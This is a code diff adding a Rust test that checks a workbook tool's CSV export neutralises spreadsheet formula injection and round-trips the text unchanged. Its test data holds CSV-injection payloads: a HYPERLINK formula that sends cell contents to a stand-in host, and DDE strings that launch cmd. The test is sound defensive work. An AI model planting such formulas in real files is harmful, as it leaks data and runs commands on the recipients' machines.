@@ -1794,6 +1794,111 @@ fn a_csv_quote_that_is_never_closed_is_refused() {
     assert_same(&before, &env.snapshot(), "import");
 }
 
+/// Text that a spreadsheet runs as a formula when it opens a CSV (OWASP's
+/// "CSV injection"): each starts with `=`, `+`, `-`, `@` or a tab, and the
+/// last is the escape itself.
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click for the report\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "'=starts with a quote already",
+];
+
+/// The cells of a CSV made by peerbook (after its byte-order mark).
+fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
+    csv::Reader::from_reader(body)
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_quoted_and_come_back_exactly() {
+    let env = Env::new();
+    let (fw, diags) = framework::load_text(
+        "base.yaml",
+        BASE_FW.as_bytes(),
+        Origin::File("base.yaml".into()),
+    );
+    let fw = fw.unwrap_or_else(|| panic!("{diags}"));
+    let mut wb = Workbook::new(fw, "Testshire County Council", "Hostile review");
+    let a = wb.answer_mut("1");
+    a.status = Status::Draft;
+    a.narrative = FORMULAS[0].into();
+    a.strengths = vec![FORMULAS[1].into()];
+    a.areas = vec![FORMULAS[2].into()];
+    a.owner = Some(FORMULAS[3].into());
+    let a = wb.answer_mut("2");
+    a.status = Status::Draft;
+    a.narrative = FORMULAS[4].into();
+    a.owner = Some(FORMULAS[5].into());
+    wb.findings
+        .recommendations
+        .push(peerbook::workbook::onsite::Recommendation {
+            text: FORMULAS[0].into(),
+            owner: Some(FORMULAS[3].into()),
+            progress: Some(FORMULAS[2].into()),
+            ..Default::default()
+        });
+    env.write("wb.yaml", workbook::to_text(&wb).as_bytes());
+
+    env.run(&[
+        "export",
+        "wb.yaml",
+        "--format",
+        "csv",
+        "--out",
+        "answers.csv",
+    ])
+    .ok();
+    let answers = csv_cells(&fs::read(env.path("answers.csv")).unwrap());
+    env.run(&[
+        "export",
+        "wb.yaml",
+        "--pack",
+        "action-plan",
+        "--format",
+        "csv",
+        "--out",
+        "plan.csv",
+    ])
+    .ok();
+    let plan = csv_cells(&fs::read(env.path("plan.csv")).unwrap());
+    for cell in answers.iter().chain(&plan).flatten() {
+        assert!(
+            !runs_as_formula(cell),
+            "a cell a spreadsheet runs: {cell:?}"
+        );
+    }
+    // Each is the text with a leading ' (columns: rating 3, owner 5,
+    // narrative 6, strengths 7, areas 8; the plan's text 1, owner 3,
+    // progress 6).
+    let quoted = |t: &str| format!("'{t}");
+    assert_eq!(answers[0][6], quoted(FORMULAS[0]));
+    assert_eq!(answers[0][7], quoted(FORMULAS[1]));
+    assert_eq!(answers[0][8], quoted(FORMULAS[2]));
+    assert_eq!(answers[0][5], quoted(FORMULAS[3]));
+    assert_eq!(answers[1][6], quoted(FORMULAS[4]));
+    assert_eq!(answers[1][5], quoted(FORMULAS[5]));
+    assert_eq!(plan[0][1], quoted(FORMULAS[0]));
+    assert_eq!(plan[0][3], quoted(FORMULAS[3]));
+    assert_eq!(plan[0][6], quoted(FORMULAS[2]));
+
+    // Brought back, every text is as it was typed: nothing changes.
+    let before = env.snapshot();
+    env.run(&["import", "wb.yaml", "answers.csv"])
+        .ok()
+        .says(&["No changes"]);
+    assert_same(&before, &env.snapshot(), "import of the exported CSV");
+}
+
 // ---------------------------------------------------------------------------
 // Output closed early
 
